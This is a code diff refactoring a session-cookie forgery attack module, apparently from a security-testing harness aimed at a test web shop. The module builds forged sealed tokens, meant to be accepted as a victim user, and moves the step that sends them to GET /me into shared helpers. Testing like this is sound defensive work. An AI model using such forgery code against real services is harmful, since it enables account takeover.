@@ -1,4 +1,4 @@
-import { type Attack, type AttackResult, notApplicable, Tries } from '../attack.js';
+import { type Attack, type AttackResult, notApplicable } from '../attack.js';
 import { Inconclusive } from '../errors.js';
 import type { Forgery } from '../tools/forge-jwt.js';
 import { openSeal } from '../tools/forge-seal.js';
@@ -11,7 +11,8 @@ import {
   type SealForge,
 } from '../tools/seal-forgeries.js';
 import { enrolUser, preLoginOf } from '../tools/second-factor.js';
-import { expectStatus, logInFreshUser, reauthenticate, userOf } from '../tools/shop.js';
+import { proveContent, sendForgeries } from '../tools/send-forgeries.js';
+import { logInFreshUser, reauthenticate } from '../tools/shop.js';
 import type { Target } from '../tools/target.js';
 
 export const sealKey: Attack = {
@@ -58,27 +59,15 @@ async function collectOtherTokens(target: Target): Promise<readonly Forgery[]> {
   return sealed.map(([name, token]) => ({ probe: 'a token of another kind', what: `the cookie ${name}`, token }));
 }
 
-/**
- * Sends every token that `forgeries` makes to GET /me. First it shows that the forged content is right: sealed as the
- * shop does, it is accepted as the victim. So every refusal of a forgery is due to what is wrong with it.
- */
+/** Sends every token that `forgeries` makes. The content is that of the attacker's own session. */
 async function tryForgeries(
   target: Target,
   forgeries: (forge: SealForge) => Promise<readonly Forgery[]>,
 ): Promise<AttackResult> {
   if (target.strategy !== 'sealed') return notApplicable('the session cookie is not an encrypted token');
   const forge = await prepareForge(target);
-  if ((await fetchUser(target, forge.seal(forge.fields))).user !== forge.victim)
-    throw new Inconclusive(
-      'the same content sealed with the genuine key is not accepted, so the forgeries prove nothing',
-    );
-  const tries = new Tries();
-  for (const { probe, what, token } of await forgeries(forge)) {
-    if (tries.of(probe).hasSucceeded) continue;
-    const { user, answer } = await fetchUser(target, token);
-    tries.of(probe).add(`${what}: accepted as ${user}`, user !== undefined, answer);
-  }
-  return tries.result();
+  await proveContent(target, forge.seal(forge.fields), forge.victim);
+  return sendForgeries(target, await forgeries(forge));
 }
 
 async function prepareForge(target: Target): Promise<SealForge> {
@@ -87,9 +76,4 @@ async function prepareForge(target: Target): Promise<SealForge> {
   const fields = openSeal(browser.token, ring);
   if (fields[1] !== user) throw new Inconclusive('a sealed token does not name its user in its second field');
   return makeSealForge(browser.token, fields, ring);
-}
-
-async function fetchUser(target: Target, token: string) {
-  const answer = await target.browser().thief(token).get('/me');
-  return { user: userOf(answer), answer: expectStatus(answer, 200, 'GET /me') };
 }
